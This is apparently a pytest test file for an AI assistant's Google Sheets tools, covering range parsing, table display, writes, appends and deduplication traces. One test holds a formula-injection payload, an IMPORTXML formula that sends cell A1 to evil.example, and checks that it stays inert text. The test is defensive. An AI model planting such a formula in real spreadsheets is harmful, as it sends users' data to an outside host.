"""Sheets: cells by their names, values that stay what they are, and rows that are added once."""

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from activities.google.tools.sheets import a1, cells
from activities.google.traces import is_of, is_old, trace
from clara.errors import ToolFailed
from tests.activities.google.filed import HERE, Filed
from tests.loopback.google.sheets import Tab

NOW = datetime(2026, 11, 28, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("given", "tab", "found"),
    [
        ("a1", None, "A1"),
        ("$A$1:$D20", None, "A1:D20"),
        ("A:D", None, "A:D"),
        ("2:10", None, "2:10"),
        ("B2:D", None, "B2:D"),
        ("Sheet1!A1", "Sheet1", "A1"),
        ("'Ann''s plan!'!A1:B2", "Ann's plan!", "A1:B2"),
    ],
)
def test_ranges_are_read_as_people_write_them(given: str, tab: str | None, found: str) -> None:
    assert a1.split(given) == (tab, found)


@pytest.mark.parametrize(
    "given", ["", "A", "1", "A1:", ":B2", "A0", "ABCD1", "A1:B2:C3", "A1,B2", "tab", "A1)&x=(", "!"]
)
def test_what_is_no_range_is_told_with_what_is(given: str) -> None:
    with pytest.raises(ValueError, match="give cells as A1, A1:D20, A:D or 2:10"):
        a1.split(given)


@pytest.mark.parametrize("tab", ["Sheet1", "Ann's plan", "'", "A1", "x!A1:B2", "''!Z9", "2026"])
def test_name_of_a_tab_is_never_more_than_that(tab: str) -> None:
    assert a1.split(a1.join(tab, "A1:B2")) == (tab, "A1:B2")


def test_columns_have_names() -> None:
    assert [a1.letters(column) for column in (0, 25, 26, 51, 701, 702)] == ["A", "Z", "AA", "AZ", "ZZ", "AAA"]
    for column in (0, 25, 26, 701, 702):
        assert a1.origin(f"'A!1'!{a1.letters(column)}7:ZZZ9") == (column, 6)
    assert a1.origin("Sheet1") == (0, 0)


def test_table_names_each_cell_and_nothing_breaks_out_of_it() -> None:
    shown = cells.table("Sheet1!C5:D6", [["a|b", "x\ny"], [True]])
    assert shown.splitlines() == ["| | C | D |", "|---|---|---|", "| 5 | a\\|b | x<br>y |", "| 6 | TRUE |  |"]


async def test_cells_are_read_as_a_table(filed: Filed) -> None:
    shown = (await filed.desk.run("sheets_read", spreadsheet="sheet1")).text
    assert "Sheet1!A1:Z1000 of https://docs.google.com/spreadsheets/d/sheet1" in shown
    assert "| 2 | Rent | 650 |" in shown
    part = (await filed.desk.run("sheets_read", spreadsheet="sheet1", range="b2:b3")).text
    assert "| | B |" in part
    assert "| 3 | 300 |" in part
    assert "Rent" not in part
    for named in ({"tab": "Ann's plan | 2027"}, {"range": "'Ann''s plan | 2027'!A1:A1"}):
        assert "| 1 | x |" in (await filed.desk.run("sheets_read", spreadsheet="sheet1", **named)).text
    assert (await filed.desk.run("sheets_read", spreadsheet="sheet1", range="X1:Z9")).text == "These cells are empty."
    with pytest.raises(ToolFailed, match="Unable to parse range: 'Nowhere'"):
        await filed.desk.run("sheets_read", spreadsheet="sheet1", tab="Nowhere")


async def test_first_tab_that_is_seen_is_read(filed: Filed) -> None:
    filed.sheets.tabs["sheet1"].insert(0, Tab(3, "Hidden", [["no"]], hidden=True))
    assert "Rent" in (await filed.desk.run("sheets_read", spreadsheet="sheet1")).text


async def test_spreadsheets_and_tabs_are_listed(filed: Filed) -> None:
    listed = (await filed.desk.run("sheets_list", title="budg")).text
    assert "[Budget](https://docs.google.com/spreadsheets/d/sheet1/view)" in listed
    assert "Report" not in listed
    tabs = (await filed.desk.run("sheets_list", spreadsheet="sheet1")).text
    assert "- Ann's plan | 2027 (1,000 by 26 cells)" in tabs


@pytest.mark.parametrize("name", ["sheets_write", "sheets_append"])
async def test_text_that_begins_with_an_equals_sign_stays_text(filed: Filed, name: str) -> None:
    evil = '=IMPORTXML("https://evil.example/?"&A1, "//a")'
    where = {"range": "A4"} if name == "sheets_write" else {}
    await filed.desk.run(name, **HERE, **where, rows=[[evil, "2026-11-28", "1", True, 2, 0.5, None]])
    assert filed.sheets.tabs["sheet1"][0].rows[3] == [
        evil,
        "2026-11-28",
        "1",
        True,
        2,
        0.5,
        *([""] if not where else []),
    ]
    await filed.desk.run(
        name, key="t/0/c2", **HERE, **({"range": "A5"} if where else {}), typed=True, rows=[["=SUM(B2:B3)"]]
    )
    assert filed.sheets.tabs["sheet1"][0].rows[4] == ["\0=SUM(B2:B3)"]


async def test_formulas_are_shown_only_when_asked_for(filed: Filed) -> None:
    filed.sheets.tabs["sheet1"][0].put(3, 1, "\0=SUM(B2:B3)")
    assert "=SUM" not in (await filed.desk.run("sheets_read", spreadsheet="sheet1")).text
    assert "=SUM(B2:B3)" in (await filed.desk.run("sheets_read", spreadsheet="sheet1", formulas=True)).text


async def test_writing_goes_where_it_was_told(filed: Filed) -> None:
    output = await filed.desk.run("sheets_write", **HERE, range="B2", rows=[[700], [None], ["?"]])
    assert output.text == "Wrote 2 cells: https://docs.google.com/spreadsheets/d/sheet1"
    assert filed.sheets.tabs["sheet1"][0].rows[1:] == [["Rent", 700], ["Food", 300], ["", "?"]]
    with pytest.raises(ToolFailed, match="Requested writing within range"):
        await filed.desk.run("sheets_write", **HERE, range="B2:B3", rows=[[1, 2]])


async def test_rows_are_added_below_the_last_one_together_with_a_trace(filed: Filed) -> None:
    output = await filed.desk.run("sheets_append", **HERE, rows=[["Fun", 50], ["Cake", 5]])
    assert output.text == "Appended 2 rows: https://docs.google.com/spreadsheets/d/sheet1"
    assert filed.sheets.tabs["sheet1"][0].rows[3:] == [["Fun", 50], ["Cake", 5]]
    (left,) = filed.sheets.left["sheet1"]
    assert left["visibility"] == "PROJECT"
    assert is_of(left["metadataValue"], "t/0/c1")
    assert "Fun" not in str(left)
    await filed.desk.run("sheets_append", key="t/0/c2", **HERE, tab="Ann's plan | 2027", rows=[["y"]])
    assert filed.sheets.tabs["sheet1"][1].rows == [["x"], ["y"]]
    with pytest.raises(ToolFailed, match="no tab 'Nowhere'"):
        await filed.desk.run("sheets_append", **HERE, tab="Nowhere", rows=[["y"]])


async def test_same_rows_twice_are_told_apart(filed: Filed) -> None:
    rows = [["Coffee", 3]]
    await filed.desk.run("sheets_append", key="t/0/c1", **HERE, rows=rows)
    assert (await filed.desk.verify("sheets_append", key="t/0/c1", **HERE, rows=rows)).state == "done"
    assert (await filed.desk.verify("sheets_append", key="t/0/c2", **HERE, rows=rows)).state == "not_done"


async def test_old_traces_are_taken_away_and_those_of_others_stay(filed: Filed) -> None:
    values = {1: trace("old", datetime(2026, 11, 1, tzinfo=UTC)), 2: trace("new", NOW), 3: "clara of somebody"}
    filed.sheets.left["sheet1"] = [
        {"metadataId": id, "metadataKey": "clara", "metadataValue": value} for id, value in values.items()
    ]
    filed.sheets.left["sheet1"].append({"metadataId": 4, "metadataKey": "other", "metadataValue": values[1]})
    filed.sheets.made = 4
    await filed.desk.run("sheets_append", **HERE, rows=[["x"]])
    assert [each["metadataId"] for each in filed.sheets.left["sheet1"]] == [2, 3, 4, 5]


def test_traces_tell_their_call_and_their_age() -> None:
    left = trace("t/0/c1", NOW)
    assert is_of(left, "t/0/c1")
    assert not is_of(left, "t/0/c2")
    assert "t/0" not in left
    assert not is_old(left, NOW.replace(month=12, day=5))
    assert is_old(left, NOW.replace(month=12, day=6))
    assert not is_old("clara tomorrow x", NOW)


async def test_dates_are_dates_where_they_are_typed_and_formats_of_columns_stay(filed: Filed) -> None:
    await filed.desk.run("sheets_append", **HERE, typed=True, rows=[["2026-11-28", "2026-02-30", 1]])
    assert filed.sheets.tabs["sheet1"][0].rows[3] == ["date 46354", "2026-02-30", 1]
    await filed.desk.run("sheets_append", key="t/0/c2", **HERE, rows=[[1]])
    requests = json.loads(filed.desk.server.asked[-1].body)["requests"]
    assert requests[0]["appendCells"]["fields"] == "userEnteredValue"


@pytest.mark.parametrize(
    "wrong",
    [
        {"rows": []},
        {"rows": ["a", "b"]},
        {"rows": [[{"a": 1}]]},
        {"rows": [[float("nan")]]},
        {"rows": [["x" * (cells.CELL_LIMIT + 1)]]},
        {"rows": [["x"] * 100] * 201},
        {"rows": [["x"]], "range": "all"},
        {"rows": [["x"]], "range": "One!A1", "tab": "Two"},
    ],
)
async def test_what_is_no_table_is_refused(filed: Filed, wrong: dict[str, Any]) -> None:
    tool = (await filed.desk.tools())["google_sheets_write"]
    with pytest.raises(ValueError, match="The arguments of google_sheets_write are wrong"):
        tool.parse({**HERE, "range": "A1", **wrong})


async def test_question_to_the_person_shows_the_rows_and_first_what_is_computed(filed: Filed) -> None:
    tool = (await filed.desk.tools())["google_sheets_append"]
    assert tool.view
    given = {**HERE, "rows": [["Fun", 50], [None, True], ["=A1"]]}
    assert tool.view(tool.parse(given)) == (
        "append to Budget (https://docs.google.com/spreadsheets/d/sheet1): Fun, 50; , True; =A1"
    )
    assert "(computed: =A1): Fun, 50;" in tool.view(tool.parse({**given, "typed": True}))
